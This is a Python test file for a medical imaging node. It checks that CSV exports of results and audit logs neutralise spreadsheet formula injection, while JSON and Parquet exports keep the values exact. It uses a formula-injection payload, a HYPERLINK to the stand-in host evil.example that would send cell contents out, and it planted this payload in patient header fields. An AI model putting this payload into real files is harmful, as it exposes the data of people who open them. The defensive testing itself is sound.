"""Exports a person opens cannot attack them: header values a spreadsheet would run are written
as text in every CSV the node writes (results, audit, validation, cohort tables, infer), kept
recognisable, and exact in JSON and Parquet."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pyarrow.parquet as pq
import pydicom
from sqlalchemy import select

from node.results.spreadsheet import FORMULA_STARTS, read_cell, safe_cell, write_csv
from storage import InstanceState, Result
from tests.conftest import node_in_process, small_chests, storescu
from tests.servers import XRAYAGE, wait_until
from tests.test_cli import run

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE_ACCESSION = "@SUM(1+1)"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_every_formula_start_is_neutralised_and_read_back() -> None:
    for start in FORMULA_STARTS:
        value = f"{start}1+1"
        assert safe_cell(value) == "'" + value and read_cell(safe_cell(value)) == value
    assert (safe_cell(-3.5), safe_cell(None), safe_cell("PAT-1")) == (-3.5, "", "PAT-1")
    assert read_cell("'quoted by a person") == "'quoted by a person"  # not ours: kept
    out = io.StringIO()
    write_csv(out, ("a", "b"), [{"a": "=1+1", "b": 2}, ("+cmd", None)])
    assert _cells(out.getvalue()) == [["a", "b"], ["'=1+1", "2"], ["'+cmd", ""]]


def test_results_and_audit_csv_from_a_real_node_cannot_run_a_senders_formula(
    tmp_path: Path, chest_ds: pydicom.Dataset, weights: Path
) -> None:
    with node_in_process(tmp_path, model={"weights": str(weights)}) as node:
        images = small_chests(
            chest_ds, tmp_path / "a", 1, "a", PatientID=HOSTILE_ID,
            AccessionNumber=HOSTILE_ACCESSION, PatientAge="061Y", ViewPosition="PA",
        )  # fmt: skip
        assert storescu(node.settings.node.port, *images).returncode == 0

        def reported() -> bool:
            with node.db.session() as s:
                rows = list(s.scalars(select(Result)))
                return bool(rows) and rows[0].instance.state == InstanceState.REPORTED

        wait_until(reported, 120, "the report")
        config = tmp_path / "node.toml"
        config.write_text(f'[storage]\npath = "{tmp_path / "data"}"\n')
        as_csv = run("results", "-f", "csv", "-c", str(config))
        assert as_csv.returncode == 0, as_csv.stderr
        (row,) = csv.DictReader(io.StringIO(as_csv.stdout))
        assert row["patient_id"] == "'" + HOSTILE_ID
        assert row["accession_number"] == "'" + HOSTILE_ACCESSION
        assert not any(v.startswith(FORMULA_STARTS) for v in row.values())
        as_json = json.loads(run("results", "-f", "json", "-c", str(config)).stdout)
        assert (as_json[0]["patient_id"], as_json[0]["accession_number"]) == (
            HOSTILE_ID, HOSTILE_ACCESSION,
        )  # fmt: skip
        command = [str(XRAYAGE), "results", "-f", "parquet", "-c", str(config)]
        parquet = subprocess.run(command, capture_output=True, check=True, timeout=300).stdout
        table = pq.read_table(io.BytesIO(parquet))
        assert table.column("patient_id").to_pylist() == [HOSTILE_ID]
        audit = run("audit", "-f", "csv", "--event", "received", "-c", str(config))
        cells = [c for line in _cells(audit.stdout)[1:] for c in line]
        assert "'" + HOSTILE_ID in cells and HOSTILE_ID not in cells
